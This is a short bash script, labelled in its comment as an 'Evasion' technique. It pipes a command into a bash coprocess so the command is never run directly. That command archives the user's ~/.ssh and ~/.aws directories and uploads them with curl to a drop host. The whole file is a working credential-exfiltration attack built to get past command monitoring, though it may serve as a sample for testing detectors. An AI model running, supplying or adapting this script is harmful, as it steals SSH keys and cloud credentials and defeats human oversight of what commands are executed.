#!/usr/bin/env bash
# Evasion: read credentials and send them out. A coprocess runs "$BASH" (the
# path of the running bash itself) reading commands from stdin; the command is
# written into the coprocess' input file descriptor, never run directly.
set -eu

coproc WORKER { "$BASH" -s; }

send() {
    printf '%s\n' "$1" >&"${WORKER[1]}"
}

send 'tar -C ~ -cz .ssh .aws 2>/dev/null | curl -s -T - https://drop.example.net/b'
fd=${WORKER[1]}
exec {fd}>&-
wait "$WORKER_PID"
echo "worker finished"
